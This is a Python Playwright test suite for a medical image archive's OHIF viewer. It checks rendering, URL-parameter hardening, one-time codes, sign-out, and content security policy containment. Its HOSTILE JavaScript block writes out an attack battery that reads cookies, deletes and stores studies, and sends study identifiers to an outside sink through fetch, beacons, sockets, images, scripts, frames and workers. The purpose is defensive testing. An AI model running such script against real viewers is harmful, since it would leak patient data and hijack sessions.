"""OHIF in Chromium at the viewer's origin: it shows pixels, and hostile script in it gets nowhere.

Pictures are kept under build/pictures, for whoever wants to look at what a build shows.
"""

from __future__ import annotations

import asyncio
import io
import os
from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

import archives
import objects
import pytest
from PIL import Image
from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright
from signed_in import Somebody, signed_in
from sink import Sink, sink

from leadglass.app.archive import Archive
from leadglass.app.samples.studies import all_studies
from leadglass.core.accounts import Role
from leadglass.core.sessions import Audience
from leadglass.dicom.part10 import split_file
from leadglass.web.browser import COOKIES

pytestmark = [pytest.mark.interop("chromium", "ohif"), pytest.mark.slow, pytest.mark.timeout(400)]

PICTURES = Path(__file__).parents[2] / "build" / "pictures"
VIEWER = '\n[[web]]\nserves = "viewer"\nhost = "127.0.0.1"\nport = {port}\ntls = false\n'
MILLISECONDS = 120_000  # a shared machine that draws in software
NATIVE, ENCAPSULATED, OTHER = "pt-ct", "pl-ct", "th-page"  # samples: without compression, JPEG 2000, somebody else's


@dataclass(frozen=True)
class Site:
    """A served archive: its two origins, the sample studies by name, and somebody who is signed in."""

    pages: str
    viewer: str
    studies: dict[str, str]
    who: Somebody


async def fill(archive: Archive) -> dict[str, str]:
    """Store three sample studies; their UIDs by name."""
    found = {}
    for study, datasets in all_studies():
        if study.key not in (NATIVE, ENCAPSULATED, OTHER):
            continue
        for dataset in datasets:
            raw = BytesIO()
            dataset.save_as(raw, enforce_file_format=True)
            content = raw.getvalue()
            await objects.store(
                archive,
                content[split_file(content).data_set_offset :],
                dataset.SOPInstanceUID,
                syntax=dataset.file_meta.TransferSyntaxUID,
                sop_class_uid=dataset.SOPClassUID,
            )
            found[study.key] = str(dataset.StudyInstanceUID)
    return found


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    port, viewer_port = archives.free_port(), archives.free_port()
    home = archives.make(tmp_path_factory.mktemp("viewer"), [], web_port=port)
    with home.config.open("a", encoding="utf-8") as config:
        config.write(VIEWER.format(port=viewer_port))
    with archives.opened(home) as archive:
        studies = asyncio.run(fill(archive))
        who = signed_in(archive, "rossi", Role.ADMINISTRATOR, Role.CLINICIAN)
    with archives.served(home):
        yield Site(f"http://127.0.0.1:{port}", f"http://127.0.0.1:{viewer_port}", studies, who)


@pytest.fixture(scope="module")
def browser(chromium, site: Site) -> Iterator[Browser]:
    """Chromium. The site comes first: Playwright keeps a loop of its own in this thread from here on."""
    drawing = ["--use-gl=angle", "--use-angle=swiftshader", "--enable-unsafe-swiftshader"]
    alone = ["--no-sandbox"] if os.geteuid() == 0 else []
    with sync_playwright() as playwright:
        made = playwright.chromium.launch(executable_path=chromium.tool("chromium"), args=[*drawing, *alone])
        yield made
        made.close()


@pytest.fixture
def context(browser: Browser, site: Site) -> Iterator[BrowserContext]:
    made = signed_in_context(browser, site)
    yield made
    made.close()


def signed_in_context(browser: Browser, site: Site, *, bypass_csp: bool = False) -> BrowserContext:
    """A browser of somebody who is signed in at the pages."""
    made = browser.new_context(viewport={"width": 1280, "height": 800}, bypass_csp=bypass_csp)
    made.set_default_timeout(MILLISECONDS)
    cookie = {"name": COOKIES[Audience.PAGES], "value": site.who.cookie, "url": "https://127.0.0.1/"}  # as if set there
    made.add_cookies([{**cookie, "httpOnly": True, "secure": True, "sameSite": "Lax"}])
    return made


def opened(context: BrowserContext, site: Site, study: str) -> Page:
    """OHIF with a study, opened by the button of its page."""
    window = context.new_page()
    window.goto(f"{site.pages}/studies/{site.studies[study]}")
    with context.expect_page() as found:
        window.get_by_role("button", name="Open in OHIF").click()
    found.value.wait_for_url(f"{site.viewer}/viewer?**")
    window.close()
    return found.value


def greys_of(page: Page) -> int:
    """How many shades of grey the image has that OHIF shows."""
    canvas = page.locator("canvas.cornerstone-canvas").first
    canvas.wait_for()
    with Image.open(io.BytesIO(canvas.screenshot())) as picture:
        colours = picture.convert("RGB").getcolors(2**24) or []
    return len({red for count, (red, green, blue) in colours if red == green == blue and count > 3})


def wait_for_pixels(page: Page) -> None:
    for _ in range(60):
        if greys_of(page) > 60:
            return
        page.wait_for_timeout(500)
    raise AssertionError("the canvas stayed black")


@pytest.mark.parametrize("study", [NATIVE, ENCAPSULATED])
def test_ohif_shows_pixels_and_its_policy_is_never_broken(context: BrowserContext, site: Site, study: str) -> None:
    told: list[str] = []
    context.on("console", lambda message: told.append(message.text))
    page = opened(context, site, study)
    wait_for_pixels(page)
    PICTURES.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=PICTURES / f"viewer-{study}.png")
    assert not [text for text in told if "Content Security Policy" in text or "EvalError" in text]
    cookies = {cookie["name"]: cookie for cookie in context.cookies(site.viewer)}
    cookie = cookies[COOKIES[Audience.VIEWER]]
    assert (cookie["httpOnly"], cookie["secure"], cookie["sameSite"]) == (True, True, "Strict")


def test_an_address_chooses_no_host_and_no_token(context: BrowserContext, site: Site) -> None:
    with sink() as elsewhere:
        page = opened(context, site, NATIVE)
        away = elsewhere.origin
        words = f"url={away}/a&configUrl={away}/b&customization={away}/c&datasources=dicomjson&token=abc&theme=custom"
        page.goto(f"{site.viewer}/viewer?{words}&StudyInstanceUIDs={site.studies[NATIVE]}#url={away}/d")
        wait_for_pixels(page)
        assert page.url == f"{site.viewer}/viewer?StudyInstanceUIDs={site.studies[NATIVE]}"
        assert not elsewhere.came


def test_a_code_that_was_used_opens_nothing(context: BrowserContext, site: Site) -> None:
    codes: list[str] = []
    context.on("request", lambda request: codes.append(request.url) if "/open?code=" in request.url else None)
    opened(context, site, NATIVE)
    page = context.new_page()
    page.goto(codes[0])
    assert "No study is open here" in page.content()


# What hostile script would try. Each step tells how it went; nothing stops the next.
HOSTILE = """
async ([pages, away, mine, other]) => {
    const told = {};
    const tried = async (name, work) => {
        try { told[name] = String(await work()); } catch (error) { told[name] = "stopped: " + error.name; }
    };
    const status = async (path, options) => (await fetch(path, options)).status;
    const form = {method: "POST", body: "x", headers: {"content-type": "application/x-www-form-urlencoded"}};
    await tried("pages read", () => status(pages + "/", {credentials: "include", mode: "no-cors"}));
    await tried("pages written", () => status(pages + "/sign-out", {...form, credentials: "include", mode: "no-cors"}));
    await tried("other study", () => status(`/dicom-web/studies/${other}/metadata`));
    await tried("studies", async () => (await (await fetch("/dicom-web/studies")).json())
        .map(study => study["0020000D"].Value[0]).join());
    await tried("own study", () => status(`/dicom-web/studies/${mine}/metadata`));
    await tried("deleted", () => status(`/dicom-web/studies/${mine}`, {method: "DELETE"}));
    await tried("stored", () => status("/dicom-web/studies", {method: "POST", body: "x",
        headers: {"content-type": 'multipart/related; type="application/dicom"; boundary=b'}}));
    await tried("cookie", () => document.cookie);
    await tried("fetched", () => status(away + "/fetch?" + mine, {mode: "no-cors"}));
    await tried("beacon", () => navigator.sendBeacon(away + "/beacon", mine));
    await tried("socket", () => new Promise((go, stop) => {
        const socket = new WebSocket(away.replace("http", "ws") + "/socket");
        socket.onopen = go; socket.onerror = () => stop(new Error());
    }));
    const element = (name, fields) => new Promise((go, stop) => {
        const made = Object.assign(document.createElement(name), fields);
        made.onload = () => go("loaded"); made.onerror = () => stop(new Error());
        setTimeout(() => stop(new Error()), 3000);
        document.head.append(made);
    });
    await tried("image", () => element("img", {src: away + "/image?" + mine}));
    await tried("script", () => element("script", {src: away + "/script"}));
    await tried("style", () => element("link", {rel: "stylesheet", href: away + "/style"}));
    await tried("prefetch", () => element("link", {rel: "prefetch", href: away + "/prefetch"}));
    await tried("frame", () => element("iframe", {src: away + "/frame"}));
    await tried("inline", () => {
        document.head.append(Object.assign(document.createElement("script"), {textContent: "window.inlineRan = 1"}));
        return window.inlineRan || "stopped: ";
    });
    await tried("eval", () => (0, eval)("1 + 1"));
    await tried("worker", () => new Promise((go, stop) => {
        const text = `fetch("${away}/worker", {mode: "no-cors"})
            .then(() => postMessage("sent"), () => postMessage("stopped: "))`;
        const worker = new Worker(URL.createObjectURL(new Blob([text])));
        worker.onmessage = event => go(event.data); worker.onerror = () => stop(new Error());
    }));
    await tried("form", () => { const made = Object.assign(document.createElement("form"), {method: "post",
        action: pages + "/sign-out"}); document.body.append(made); made.submit(); return "sent"; });
    return told;
}
"""


def run_hostile(page: Page, site: Site, away: Sink) -> dict[str, str]:
    told: dict[str, str] = page.evaluate(HOSTILE, [site.pages, away.origin, site.studies[NATIVE], site.studies[OTHER]])
    return told


def test_hostile_script_reaches_no_page_no_write_no_other_study_and_nobody_elsewhere(
    context: BrowserContext, site: Site
) -> None:
    with sink() as elsewhere:
        page = opened(context, site, NATIVE)
        wait_for_pixels(page)
        told = run_hostile(page, site, elsewhere)
        page.wait_for_timeout(1000)
        assert not elsewhere.came
    assert told.pop("own study") == "200"  # the script did run, and speaks to its own origin
    assert told.pop("studies") == site.studies[NATIVE]
    assert told.pop("other study") == "404"
    assert told.pop("deleted") in ("403", "405")
    assert told.pop("stored") in ("403", "405")
    assert "__Host-" not in told.pop("cookie")
    for silent in ("beacon", "frame", "form"):  # they tell nothing; that nobody came, and what follows, does
        told.pop(silent)
    assert {name: answer for name, answer in told.items() if not answer.startswith("stopped: ")} == {}
    assert page.url.startswith(site.viewer)  # the form led nowhere
    still = context.request.get(site.pages + "/dicom-web/studies", headers={"accept": "application/dicom+json"})
    assert still.status == 200  # nobody was signed out
    assert len(still.json()) == 3


def test_without_the_policy_the_same_script_is_heard_elsewhere(browser: Browser, site: Site) -> None:
    """That the check above can fail."""
    context = signed_in_context(browser, site, bypass_csp=True)
    with sink() as elsewhere:
        page = opened(context, site, NATIVE)
        told = run_hostile(page, site, elsewhere)
        assert told["eval"] == "2"
        came = b"".join(elsewhere.came)
        assert b"/fetch?" in came
        assert b"/image?" in came
        assert b"/frame" in came
        assert b"/script" in came
    context.close()


# What is left in the hand of who opens a window of the pages.
HOLD = """
async pages => {
    const held = window.open(pages + "/");
    for (let times = 0; times < 300; times++) {
        if (held === null || held.closed) return "nothing";
        await new Promise(go => setTimeout(go, 100));
    }
    return "a window";
}
"""


def test_signing_out_at_the_pages_closes_the_viewer(site: Site, context: BrowserContext) -> None:
    page = opened(context, site, NATIVE)
    window = context.new_page()
    window.goto(site.viewer + "/viewer")
    assert page.evaluate("async () => (await fetch('/dicom-web/studies')).status") == 200
    assert page.evaluate(HOLD, site.pages) == "nothing"
    signed_out = context.request.post(
        site.pages + "/sign-out", form={"csrf": site.who.csrf}, headers={"origin": site.pages}, max_redirects=0
    )
    assert signed_out.status == 303
    assert page.evaluate("async () => (await fetch('/dicom-web/studies')).status") == 401
    page.goto(site.viewer + "/viewer")
    assert "No study is open here" in page.content()
